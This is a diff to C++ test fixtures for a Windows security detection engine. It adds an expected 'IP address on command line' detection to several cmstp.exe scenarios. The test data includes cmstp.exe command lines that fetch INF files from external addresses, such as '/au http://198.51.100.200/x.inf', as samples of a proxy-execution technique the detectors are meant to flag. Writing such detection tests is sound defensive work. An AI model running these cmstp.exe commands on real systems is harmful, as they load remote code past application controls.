@@ -23,6 +23,8 @@ const std::vector<std::string> car_and_remote = {detection_car, detection_remote
 const std::vector<std::string> remote_only = {detection_remote};
 const std::vector<std::string> cmdline_url = {detection_cmdline_url};
 const std::vector<std::string> none = {};
+// The catalogue's CAR-2013-07-001 finds an IPv4 address on a command line.
+const std::string address_on_command_line = "CAR-2013-07-001:ip-address";
 
 // The path the filtering platform shows for a program on drive C:.
 std::string device_path(const std::string& windows_path) {
@@ -245,13 +247,13 @@ std::vector<scenario_record> ws05_records() {
     log.permitted(connection(cmstp_url, cmstp_image, false, lan, 49901, "203.0.113.99", 443),
                   "the URL cmstp.exe fetches its INF", remote_only);
     log.created(user_process(0x13A44, cmstp_image, "cmstp.exe /s \\\\10.20.0.15\\profiles\\corp.inf"), 2,
-                "cmstp.exe with a UNC path to an internal address: no cmdline-url");
+                "cmstp.exe with a UNC path to an internal address: no cmdline-url", {address_on_command_line});
     log.created(user_process(0x1D30, cmstp_image, ""), 0,
                 "cmstp.exe in the version 0 shape (no CommandLine): no cmdline-url");
     log.permitted(connection(0x1D30, cmstp_image, false, lan, 49910, "198.51.100.120", 80),
                   "the version 0 cmstp.exe connects out: its process context is the v0 4688", remote_only);
     log.created(user_process(0x1E64, cmstp_image, "cmstp.exe /au http://198.51.100.200/x.inf"), 1,
-                "cmstp.exe in the version 1 shape with an http URL", cmdline_url);
+                "cmstp.exe in the version 1 shape with an http URL", {detection_cmdline_url, address_on_command_line});
 
     // A process id reused: the flow after the new 4688 belongs to the new
     // process, not to the cmstp.exe that exited.
@@ -329,7 +331,8 @@ std::vector<scenario_record> wec01_records() {
                                                  "cmstp.exe /ni /s https://203.0.113.77/p.inf", user,
                                                  "C:\\Users\\jdoe\\");
     add(sysmon_process_create(ws09, t, cmstp, explorer), "Process Create:", "Process Create (rule: ProcessCreate)",
-        "WS09 forwarded Sysmon: cmstp.exe with an https URL to an external address", cmdline_url);
+        "WS09 forwarded Sysmon: cmstp.exe with an https URL to an external address",
+        {detection_cmdline_url, address_on_command_line});
     t += 2 * ticks_per_second;
     network_connection c;
     c.source_ip = ws09.address;
